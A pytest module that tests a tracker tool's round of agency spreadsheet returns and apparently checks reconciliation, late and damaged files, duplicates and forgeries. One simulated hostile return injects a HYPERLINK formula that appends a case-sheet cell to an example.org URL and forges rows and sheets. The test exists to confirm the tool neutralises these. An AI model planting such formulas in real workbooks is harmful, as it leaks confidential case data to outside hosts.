"""The whole round as it is typed: six agencies, through LibreOffice and openpyxl, one of them hostile."""

from __future__ import annotations

import io
import json
from datetime import date
from typing import TYPE_CHECKING, Any

import openpyxl
import pytest
from click.testing import CliRunner, Result
from office.edits import Job, Set, Type, edit
from office.program import need, uno_missing
from reconcile.editing import spot
from workbook.making import PROCEDURE, made

from tracker.cli import cli
from tracker.workbook import layout
from tracker.workbook.write import workbook_bytes

from .sending import CASE, CODES, SENT, SHEET, filled

if TYPE_CHECKING:
    from pathlib import Path

    from openpyxl import Workbook as XlsxWorkbook

LATER = "2026-11-20"
"""The day after the returns are due."""
REPORT, CHRONOLOGY = "RR-5.7b", "LCSPR-7.9b"
PAYLOAD = '=HYPERLINK("http://example.org/?"&Case!B4,"Open the report")'


def tracker(*words: object) -> Result:
    return CliRunner().invoke(cli, [str(word) for word in words], catch_exceptions=False)


def name(code: str) -> str:
    return f"DOR-2026-099-return-{code}.xlsx"


def _hostile(book: XlsxWorkbook) -> None:
    """Cafcass answers for the ICB, puts a formula in as text, and types into rows and sheets that are not its own."""
    page, hidden = book[SHEET], book[layout.RETURN]
    page["H7"].value = PAYLOAD
    page["H7"].data_type = "s"
    page["I7"].value = "+44 1202 000000"
    page["A8"].value, page["F8"].value = f"{REPORT}-ICB", date(2026, 11, 12)
    page["A9"].value, page["F9"].value = "RR-6.6", date(2026, 11, 12)
    record = json.loads(str(hidden["A1"].value))
    record["rows"][f"{REPORT}-ICB"] = {"Completed": None, "Status": "Not started"}
    hidden["A1"].value = json.dumps(record)
    book.create_sheet("SIN")["A1"].value = "SIN-3.4"


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The workbook, what was sent, and what came back."""
    need(uno_missing())
    here = tmp_path_factory.mktemp("round")
    content = workbook_bytes(made(CASE, SENT, PROCEDURE))
    book = openpyxl.load_workbook(io.BytesIO(content))
    spot(book, f"{REPORT}-DHC:Progress").value = "Office: chased by phone"
    spot(book, f"{REPORT}-UHD:Progress").value = "Office: asked twice"
    spot(book, "RR-5.7:Completed").value = SENT
    book.save(here / "case.xlsx")
    result = tracker("returns", here / "case.xlsx", "--as-at", SENT, "-o", here / "sent")
    assert (result.exit_code, result.stderr.strip()) == (0, f"Written: 6 returns into {here / 'sent'}")
    assert sorted(path.name for path in (here / "sent").iterdir()) == sorted(map(name, CODES))
    (here / "back").mkdir()

    def send_back(code: str, cells: dict[str, object], then: Any = None) -> None:
        content = (here / "sent" / name(code)).read_bytes()
        (here / "back" / name(code)).write_bytes(filled(content, cells, then))

    send_back("POL", {f"{REPORT}-POL:Completed": date(2026, 11, 18), f"{REPORT}-POL:Evidence": "Secure mail"})
    send_back("UHD", {f"{REPORT}-UHD:Status": "No involvement", f"{REPORT}-UHD:Progress": "Never seen"})
    send_back("CAF", {}, _hostile)
    (here / "back" / "copy of police.xlsx").write_bytes((here / "back" / name("POL")).read_bytes())
    (here / "back" / "damaged.xlsx").write_bytes((here / "sent" / name("ASC")).read_bytes()[:5000])
    jobs = [
        Job(here / "sent" / name("ICB"), here / "back" / name("ICB"), [Type(SHEET, "F7", "20/11/2026")]),
        Job(
            here / "sent" / name("DHC"),
            here / "back" / name("DHC"),
            [Set(SHEET, "H7", "- two of three parts")],
        ),
    ]
    assert [result["errors"] for result in edit(jobs)] == [[], []]
    return here


def reconciled(folder: Path) -> dict[str, Any]:
    target = folder / "state.json"
    words = ("--returns", folder / "back", "--as-at", LATER, "--format", "json", "-o", target)
    result = tracker("reconcile", folder / "case.xlsx", *words)
    assert result.exit_code == 1  # a damaged file and a forged row are errors; the rest was done
    found = json.loads(target.read_text("utf-8"))
    assert isinstance(found, dict)
    return found


def test_reconcile_says_what_came_back_and_what_is_wrong_with_it(folder: Path) -> None:
    found = reconciled(folder)
    (case,) = found["cases"]
    rows = {each["id"]: each for each in case["actions"]}
    assert {
        code: (rows[f"{REPORT}-{code}"]["rag"], rows[f"{REPORT}-{code}"]["status"]) for code in CODES
    } == {
        "POL": ("Complete", "Complete"),
        "ICB": ("Complete, late", "Complete"),
        "DHC": ("Overdue", "In progress"),
        "UHD": ("Not applicable", "Not applicable"),
        "ASC": ("Overdue", "Not started"),
        "CAF": ("Overdue", "In progress"),
    }
    assert rows[f"{REPORT}-DHC"]["progress"] == "Office: chased by phone\n- two of three parts"
    assert rows["RR-6.6"]["completed"] is None
    states = {each["owner"]: each["rows"] for each in case["returns"]}
    assert states["Dorset HealthCare"] == {
        f"{CHRONOLOGY}-DHC": "still open",
        f"{REPORT}-DHC": "half filled, late",
    }
    assert states["University Hospitals"][f"{REPORT}-UHD"] == "no involvement"
    told = [
        (each["code"], each["file"].rpartition("/")[2]) for each in (*found["problems"], *case["problems"])
        if "back" in each["file"]
    ]  # fmt: skip
    assert sorted(told) == [
        ("T106", "damaged.xlsx"),
        ("T395", name("CAF")),
        ("T396", name("CAF")),
        ("T633", name("CAF")),
        ("T635", "copy of police.xlsx") if name("POL") < "copy of police.xlsx" else ("T635", name("POL")),
    ]


def test_regenerate_takes_the_answers_over_once_and_nothing_else(folder: Path) -> None:
    words = ("--returns", folder / "back", "--as-at", LATER)
    result = tracker("regenerate", folder / "case.xlsx", *words, "-o", folder / "merged.xlsx")
    assert result.exit_code == 1
    book = openpyxl.load_workbook(folder / "merged.xlsx")
    cells = {code: spot(book, f"{REPORT}-{code}:Completed").value for code in CODES}
    days = {code: value.date() for code, value in cells.items() if value}  # type: ignore[union-attr]  # dates
    assert days == {"POL": date(2026, 11, 18), "ICB": date(2026, 11, 20)}
    payload = spot(book, f"{REPORT}-CAF:Progress")
    assert (payload.value, payload.data_type) == (PAYLOAD, "s")
    assert spot(book, f"{REPORT}-CAF:Evidence").value == "+44 1202 000000"

    spot(book, f"{REPORT}-DHC:Progress").value = "The office tidied the note"
    book.save(folder / "later.xlsx")
    again = tracker("regenerate", folder / "later.xlsx", *words, "--dry-run", "--format", "json")
    outcome = json.loads(again.stdout)
    assert (outcome["cells"], outcome["conflicts"]) == ([], [])
    before = [each for each in outcome["problems"] if each["code"] == "T636"]
    assert len(before) >= len(CODES) - 1


def test_summary_and_the_weekly_report_show_the_returns(folder: Path) -> None:
    words = ("--returns", folder / "back", "--as-at", LATER)
    tracker("regenerate", folder / "case.xlsx", *words, "-o", folder / "shown.xlsx")
    book = openpyxl.load_workbook(folder / "shown.xlsx", data_only=True)
    lines = {row[0].value: row[2].value for row in book["Summary"].iter_rows() if row[0].value == REPORT}
    assert lines[REPORT] == (
        "2 of 5 back, 1 not involved, waiting for DHC (late, half filled), ASC (late), CAF (late, half filled)"
    )
    result = tracker(
        "report", folder / "shown.xlsx", "--for", "weekly", "--format", "md", "--as-at", LATER, "-o", "-"
    )
    (line,) = [each for each in result.stdout.splitlines() if "returns back" in each]
    assert "2 of 5 returns back" in line
    assert "late: ASC, CAF and DHC; half filled: CAF and DHC; not involved: UHD" in line
